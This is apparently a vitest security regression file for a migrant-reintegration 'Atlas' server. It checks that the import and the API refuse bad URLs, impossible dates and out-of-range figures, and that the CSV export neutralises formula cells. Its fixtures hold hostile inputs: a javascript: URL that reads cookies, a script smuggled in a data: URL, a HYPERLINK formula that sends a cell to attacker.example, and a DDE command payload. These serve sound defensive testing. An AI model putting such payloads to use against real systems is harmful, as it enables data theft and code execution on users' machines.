import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTarget, type Answer, type Target } from './target';

/**
 * Findings 4, 9 and 11 (part) of the attack on the Atlas, replayed against the built server:
 * the import skipped the API's field rules; impossible dates, negative counts and percentages over
 * 100 were accepted; a formula in a title was written into the practices CSV as is.
 */
let atlas: Target;
let editor: string;
let program: { id: string; sources: { id: string }[] };

beforeAll(async () => {
  atlas = await startTarget();
  editor = (await atlas.signIn('EDITOR')).token;
  const answer = await atlas.graphql<{ programs: { nodes: (typeof program & { key: string })[] } }>(
    '{ programs(first: 100) { nodes { id key sources { id } } } }',
  );
  program = answer.body.data!.programs.nodes.find((p) => p.key === 'desmigratif')!;
}, 180_000);
afterAll(() => atlas?.dispose());

/** The whole dataset as `pnpm cli export` writes it: equal before and after means nothing was written. */
const dataset = () => atlas.cli(['export']);

/** Runs `pnpm cli import <file>`; resolves with its exit status and what it printed. */
async function cliImport(document: Record<string, unknown>): Promise<{ failed: boolean; output: string }> {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'atlas-hostile-')), 'hostile.json');
  fs.writeFileSync(file, JSON.stringify({ format: 'reintegration-atlas', version: 1, ...document }));
  try {
    return { failed: false, output: await atlas.cli(['import', file]) };
  } catch (error) {
    return { failed: true, output: (error as Error).message };
  }
}

function fieldsOf(answer: Answer): { path: string; message: string; code?: string; values?: object }[] | undefined {
  expect(answer.body.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
  return answer.body.errors?.[0]?.extensions?.fields;
}

describe('finding 9: pnpm cli import applies the API’s field rules', () => {
  it('refuses javascript: and data: URLs, a 200 KB title and a 3 MB body, listing every problem, writing nothing', async () => {
    const before = await dataset();
    const { failed, output } = await cliImport({
      sources: [
        { key: 'hostile-javascript', title: 'Click me', url: 'javascript:alert(document.cookie)' },
        { key: 'hostile-data', title: 'Open me', url: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' },
      ],
      practices: [
        {
          key: 'hostile-sizes',
          title: 'T'.repeat(200_000),
          summary: 'A practice far too large to store.',
          body: 'B'.repeat(3_000_000),
          country: 'ID',
          year: 2020,
          themes: ['ENTREPRENEURSHIP'],
          dimensions: ['ECONOMIC'],
          evidenceLevel: 'DOCUMENTED',
          sources: ['jpnn-2019-reintegration-workshop'],
        },
      ],
    });
    expect(failed).toBe(true);
    expect(output).toContain('has 4 problem(s); nothing was imported');
    for (const problem of [
      'sources[0] (hostile-javascript): url: must be a web address starting with http:// or https://',
      'sources[1] (hostile-data): url: must be a web address starting with http:// or https://',
      'practices[0] (hostile-sizes): title: at most 300 characters',
      'practices[0] (hostile-sizes): body: at most 50000 characters',
    ]) {
      expect(output).toContain(problem);
    }
    expect(await dataset()).toBe(before);
  });
});

describe('finding 11: impossible dates and implausible figures are refused through the API', () => {
  const RECORD = 'mutation($inputs: [OutcomeInput!]!) { recordOutcomes(inputs: $inputs) { id } }';
  const figure = (indicatorCode: string, value: number) => ({
    programId: program.id,
    indicatorCode,
    year: 2022,
    value,
    sourceId: program.sources[0]!.id,
  });

  it('refuses impossible dates, naming the field, writing nothing', async () => {
    const before = await dataset();
    const CREATE_SOURCE = 'mutation($input: SourceInput!) { createSource(input: $input) { id } }';
    for (const publishedOn of ['2019-13-45', '2019-02-30']) {
      const answer = await atlas.graphql(
        CREATE_SOURCE,
        { input: { title: 'A report', url: `https://example.org/${publishedOn}`, publishedOn } },
        editor,
      );
      expect(fieldsOf(answer)).toEqual([
        {
          path: 'input.publishedOn',
          message: `${publishedOn} is not a day on the calendar`,
          code: 'NOT_A_DAY',
          values: { date: publishedOn },
        },
      ]);
    }
    expect(await dataset()).toBe(before);
  });

  it('refuses negative and fractional counts and percentages over 100, naming each figure, writing nothing', async () => {
    const before = await dataset();
    const answer = await atlas.graphql(
      RECORD,
      {
        inputs: [
          figure('DESMIGRATIF_VILLAGES_NEW', 12),
          figure('DESMIGRATIF_VILLAGES_NEW', -40),
          figure('TRIPARTITE_PARTICIPANTS_SHARE_PCT', 150),
          figure('DESMIGRATIF_VILLAGES_NEW', 2.5),
        ],
      },
      editor,
    );
    expect(fieldsOf(answer)).toEqual([
      {
        path: 'inputs[1].value',
        message: 'must be a whole number of villages from 0 to 10,000,000,000',
        code: 'COUNT_RANGE',
        values: { unit: 'villages', min: 0, max: 10_000_000_000 },
      },
      {
        path: 'inputs[2].value',
        message: 'must be a percentage from 0 to 100',
        code: 'PERCENT_RANGE',
        values: { min: 0, max: 100 },
      },
      {
        path: 'inputs[3].value',
        message: 'must be a whole number of villages from 0 to 10,000,000,000',
        code: 'COUNT_RANGE',
        values: { unit: 'villages', min: 0, max: 10_000_000_000 },
      },
    ]);
    expect(await dataset()).toBe(before);
  });
});

describe('finding 4: the practices CSV neutralises cells a spreadsheet would evaluate', () => {
  it('writes a formula title and summary of a published practice as text', async () => {
    const title = '=HYPERLINK("http://attacker.example/?"&A1,"Click for the full report")';
    const summary = '+cmd|" /C calc"!A0 returnees pool savings';
    const PRACTICE = `mutation($input: PracticeInput!) { createPractice(input: $input) { id key } }`;
    const created = await atlas.graphql<{ createPractice: { id: string; key: string } }>(
      PRACTICE,
      {
        input: {
          title,
          summary,
          body: '@SUM(1+1) A cooperative of returned workers.',
          countryCode: 'PH',
          year: 2021,
          themes: ['ENTREPRENEURSHIP'],
          dimensions: ['ECONOMIC'],
          evidenceLevel: 'DOCUMENTED',
          sources: [{ sourceId: program.sources[0]!.id }],
        },
      },
      editor,
    );
    expect(created.body.errors).toBeUndefined();
    const { id, key } = created.body.data!.createPractice;
    const published = await atlas.graphql('mutation($id: ID!) { publishPractice(id: $id) { id } }', { id }, editor);
    expect(published.body.errors).toBeUndefined();

    const response = await fetch(`${atlas.url}/export/practices.csv?countryCodes=PH`);
    expect(response.status).toBe(200);
    const [header, ...rows] = parseCsv(await response.text());
    const column = (name: string) => header!.indexOf(name);
    const row = rows.find((cells) => cells[column('key')] === key)!;
    expect(row[column('title')]).toBe(`'${title}`);
    expect(row[column('summary')]).toBe(`'${summary}`);
    expect(row[column('year')]).toBe('2021');
    for (const cells of rows) {
      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

/** RFC 4180, as a spreadsheet reads it: records end at CRLF or LF outside quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\n' || char === '\r') {
      if (char === '\r' && text[i + 1] === '\n') i++;
      record.push(field);
      records.push(record);
      record = [];
      field = '';
    } else field += char;
  }
  if (field !== '' || record.length) records.push([...record, field]);
  return records;
}
